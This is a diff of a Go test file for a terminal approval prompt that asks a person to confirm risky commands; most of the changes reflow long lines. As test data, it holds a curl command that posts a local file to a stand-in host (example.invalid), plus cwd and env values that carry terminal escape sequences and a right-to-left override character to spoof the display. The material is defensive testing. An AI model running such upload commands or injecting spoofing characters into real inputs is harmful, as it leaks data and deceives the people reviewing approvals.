@@ -82,8 +82,10 @@ func TestPromptOnATerminal(t *testing.T) {
 	t.Run("what is shown", func(t *testing.T) {
 		x, id := asked(t, script...)
 		for _, want := range []string{
-			id + "  pending  risk ", "where       " + key, "as          crt-", "a person typed it", "boundary=namespace root=system; all that is required of it was verified",
-			"may         ", "network.out", "because     ", "CONFIRM  risk ", "curl -s -m 1 -d @x https://example.invalid/in", "SAFE  risk ", "echo ran-$((40+2))", "Taken for denied at ",
+			id + "  pending  risk ", "where       " + key, "as          crt-", "a person typed it",
+			"boundary=namespace root=system; all that is required of it was verified",
+			"may         ", "network.out", "because     ", "CONFIRM  risk ", "curl -s -m 1 -d @x https://example.invalid/in", "SAFE  risk ",
+			"echo ran-$((40+2))", "Taken for denied at ",
 		} {
 			if !strings.Contains(x.Screen(), want) {
 				t.Errorf("it does not show %q: %s", want, x.Screen())
@@ -96,7 +98,8 @@ func TestPromptOnATerminal(t *testing.T) {
 		if code := x.Wait(); code != 0 {
 			t.Errorf("exit code %d", code)
 		}
-		if got := h.carrel(t, "approvals", "show", id); strings.Fields(got)[1] != "spent" || !strings.Contains(got, "once by uid:") || !strings.Contains(got, ", themselves at ") {
+		if got := h.carrel(t, "approvals", "show", id); strings.Fields(got)[1] != "spent" || !strings.Contains(got, "once by uid:") ||
+			!strings.Contains(got, ", themselves at ") {
 			t.Errorf("%s", got)
 		}
 	})
@@ -122,7 +125,9 @@ func TestPromptOnATerminal(t *testing.T) {
 		x.Type("t\rt\rt\r")
 		ended(t, x, id, "pending", "cannot go on without an answer")
 	})
-	for name, keys := range map[string]string{"Ctrl-C": "\x03", "Ctrl-\\": "\x1c", "Ctrl-D": "\x04", "Ctrl-C behind y": "y\x03", "Ctrl-D behind what was taken back": "y\x15\x04"} {
+	for name, keys := range map[string]string{
+		"Ctrl-C": "\x03", "Ctrl-\\": "\x1c", "Ctrl-D": "\x04", "Ctrl-C behind y": "y\x03", "Ctrl-D behind what was taken back": "y\x15\x04",
+	} {
 		t.Run(name, func(t *testing.T) {
 			x, id := asked(t, script...)
 			x.Type(keys)
@@ -172,7 +177,8 @@ func TestPromptOnATerminal(t *testing.T) {
 		x.Expect(`administrator sets the policy` + "\r\n")
 		harmless(t, x)
 		// What is asked about.
-		x = ptytest.Start(t, h.command(context.Background(), alice, "exec", "-e", "B=\x1b[2J", "--cwd", "/tmp/\u202egnp\x1b[2J", key, "--", "curl", "-d", "@x", "https://example.invalid/in"), 50, 120, false)
+		x = ptytest.Start(t, h.command(context.Background(), alice, "exec", "-e", "B=\x1b[2J", "--cwd", "/tmp/\u202egnp\x1b[2J", key,
+			"--", "curl", "-d", "@x", "https://example.invalid/in"), 50, 120, false)
 		x.Expect(question)
 		id := approvalID.FindString(x.Screen())
 		x.Type("\x03")
